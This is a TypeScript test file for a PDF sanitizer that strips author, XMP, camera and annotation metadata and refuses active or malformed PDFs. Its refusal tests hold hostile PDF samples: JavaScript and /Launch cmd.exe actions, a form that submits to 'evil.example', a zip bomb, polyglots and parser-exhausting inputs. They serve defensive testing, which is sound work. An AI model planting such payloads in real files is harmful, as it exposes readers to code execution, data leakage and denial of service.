import { deflateSync, inflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { cameraPicture } from '../attachments.fixture.ts';
import { pdf, stream } from './document.fixture.ts';
import { cleanPdf } from './pdf.ts';

const refused = (bytes: Buffer): string => {
  try {
    cleanPdf(bytes);
    return 'taken';
  } catch (error) {
    return (error as { code: string }).code;
  }
};

const inner = (bytes: Buffer, mark: string): string => {
  const start = bytes.indexOf('stream\n', bytes.indexOf(mark)) + 7;
  return inflateSync(bytes.subarray(start)).toString('latin1');
};

describe('IDN-2 PDFs', () => {
  it('lose writer and title, in plain and in hexadecimal, and keep every byte in its place', () => {
    const info =
      '<< /Author (MARKED \\(Budi\\) (x)) /Title (MARKED judul) /Producer <4D41524B4544> /CreationDate (D:2026) >>';
    const sent = pdf([info], '/Info 4 0 R');
    const clean = cleanPdf(sent);
    expect(clean.length).toBe(sent.length);
    expect(clean.toString('latin1')).not.toContain('MARKED');
    expect(clean.toString('latin1')).not.toContain('4D41524B4544');
    expect(clean.indexOf('xref')).toBe(sent.indexOf('xref'));
    expect(clean.includes('/CreationDate (D:2026)')).toBe(true);
  });

  it('lose a writer who is written in an object apart, as macOS does', () => {
    const clean = cleanPdf(pdf(['<< /Author 5 0 R >>', '(MARKED Budi)'], '/Info 4 0 R'));
    expect(clean.includes('MARKED')).toBe(false);
  });

  it('keep the titles of their chapters', () => {
    expect(cleanPdf(pdf(['<< /Title (Bab I) /Parent 2 0 R >>'])).includes('(Bab I)')).toBe(true);
  });

  it('lose XMP, plain or compressed', () => {
    const xmp = '<x:xmpmeta><dc:creator>MARKED Budi</dc:creator></x:xmpmeta>'.repeat(9);
    expect(cleanPdf(pdf([stream('/Type /Metadata /Subtype /XML', xmp, false)])).includes('MARKED')).toBe(false);
    const packed = cleanPdf(pdf([stream('/Type /Metadata /Subtype /XML', xmp)]));
    expect(inner(packed, '/Metadata')).not.toContain('MARKED');
  });

  it('lose a writer who is written in a compressed object', () => {
    const objects = `4 0 << /Author (MARKED Budi Santoso) /Title (MARKED) /Producer (MARKED Word) >> ${'x'.repeat(200)}`;
    const clean = cleanPdf(pdf([stream('/Type /ObjStm /N 1 /First 4', objects)]));
    expect(inner(clean, '/ObjStm')).not.toContain('MARKED');
    expect(inner(clean, '/ObjStm')).toHaveLength(objects.length);
  });

  it('lose place and camera of the pictures in them, which stay the same to the eye', async () => {
    const picture = await cameraPicture();
    expect(picture.includes('MARKED')).toBe(true);
    const dictionary = `<< /Subtype /Image /Filter /DCTDecode /Length ${picture.length} >>\nstream\n`;
    const sent = pdf([Buffer.concat([Buffer.from(dictionary), picture, Buffer.from('\nendstream')])]);
    const clean = cleanPdf(sent);
    expect(clean.includes('MARKED')).toBe(false);
    const start = clean.indexOf(dictionary) + dictionary.length;
    const kept = clean.subarray(start, start + picture.length);
    expect(await sharp(kept).raw().toBuffer()).toEqual(await sharp(picture).raw().toBuffer());
  });

  it('lose the names above notes in the margin and keep those of form fields', () => {
    const note = '<< /Type /Annot /Subtype /Text /T (MARKED Budi) /Contents (perbaiki) >>';
    const field = '<< /Subtype /Widget /FT /Tx /T (nama) >>';
    const clean = cleanPdf(pdf([note, field])).toString('latin1');
    expect(clean).not.toContain('MARKED');
    expect(clean).toContain('(nama)');
    const packed = cleanPdf(pdf([stream('/Type /ObjStm /N 1 /First 4', `9 0 ${note} ${'x'.repeat(99)}`)]));
    expect(inner(packed, '/ObjStm')).not.toContain('MARKED');
  });

  it('keep every byte when they are signed: their signer gave the name, and changing them breaks the signature', () => {
    const sent = pdf(['<< /Author (Kepala Dinas) >>', '<< /Type /Sig /ByteRange [0 10 20 30] >>'], '/Info 4 0 R');
    expect(cleanPdf(sent).equals(sent)).toBe(true);
  });
});

describe('INT-7 PDFs that act by themselves', () => {
  it.each([
    ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
    ['a script under a written-out name', '<< /S /J#61vaScript /JS (app.alert(1)) >>'],
    ['a program', '<< /S /Launch /F (cmd.exe) >>'],
    ['embedded files', '<< /Names << /EmbeddedFiles 5 0 R >> >>'],
    ['a form that sends itself', '<< /S /SubmitForm /F (http://evil.example) >>'],
    ['a dynamic form', '<< /AcroForm << /XFA 6 0 R >> >>'],
    ['media', '<< /Subtype /RichMedia >>'],
  ])('are refused: %s', (_what, object) => {
    expect(refused(pdf([object]))).toBe('ACTIVE_CONTENT');
    expect(refused(pdf([stream('/Type /ObjStm /N 1 /First 4', `9 0 ${object}`)]))).toBe('ACTIVE_CONTENT');
  });

  it('are refused when their objects are packed in a way that cannot be checked', () => {
    const packed = Buffer.from(
      '<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00>\nendstream',
    );
    expect(refused(pdf([packed]))).toBe('ACTIVE_CONTENT');
    const hidden = Buffer.from('<< /Type /Obj#53tm /Filter /LZWDecode >>\nstream\n00>\nendstream');
    expect(refused(pdf([hidden]))).toBe('ACTIVE_CONTENT');
  });

  it('are refused when they are encrypted', () => {
    expect(refused(pdf([], '/Encrypt 9 0 R'))).toBe('ENCRYPTED_DOCUMENT');
  });

  it('are refused when packed objects unpack to more than any document has', () => {
    const bomb = deflateSync(Buffer.alloc(40_000_000));
    const object = Buffer.concat([
      Buffer.from('<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n'),
      bomb,
      Buffer.from('\nendstream'),
    ]);
    expect(refused(pdf([object]))).toBe('ZIP_BOMB');
  });
});

describe('INT-7 PDFs that are two files', () => {
  it.each([
    ['a page of HTML inside', pdf(['(<script>alert(1)</script>)'])],
    ['a zip behind', Buffer.concat([pdf(), Buffer.from(`PK\x03\x04${'x'.repeat(100)}`)])],
  ])('are refused: %s', (_what, bytes) => {
    expect(refused(bytes)).toBe('POLYGLOT');
  });

  it('are refused with something in front or without an end', () => {
    expect(refused(Buffer.concat([Buffer.from('GIF89a'), pdf()]))).toBe('CORRUPT_FILE');
    expect(refused(Buffer.from('%PDF-1.7 and nothing more'))).toBe('CORRUPT_FILE');
  });
});

describe('INT-7 hostile PDFs', () => {
  it.each([
    ['streams without end', `${'<< >> stream\n'.repeat(400_000)}`],
    ['writers in writers', '/Author('.repeat(500_000)],
    ['closed writers in writers', '/Author('.repeat(300_000) + ')'.repeat(300_000)],
    ['notes', '/T (x) /Subtype /Text '.repeat(200_000)],
    ['references', Array.from({ length: 200_000 }, (_, i) => `/Info ${i} 0 R `).join('')],
    ['references to writers', Array.from({ length: 200_000 }, (_, i) => `/Author ${i} 0 R `).join('')],
  ])('made of %s do not keep the server busy', (_what, filling) => {
    const started = performance.now();
    refused(pdf([filling]));
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
